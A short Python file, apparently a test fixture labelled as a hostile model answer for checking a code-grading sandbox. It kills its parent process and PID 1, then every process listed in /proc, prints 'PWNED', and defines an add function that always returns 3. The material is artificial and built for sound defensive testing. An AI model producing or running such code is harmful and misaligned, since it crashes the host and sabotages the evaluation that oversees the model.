# ruff: noqa  (a hostile model answer: written as an attacker writes, not to this project's style)
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
        print("PWNED killed", pid)
    except OSError as exc:
        print("denied", pid, exc)
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
def add(a, b):
    return 3
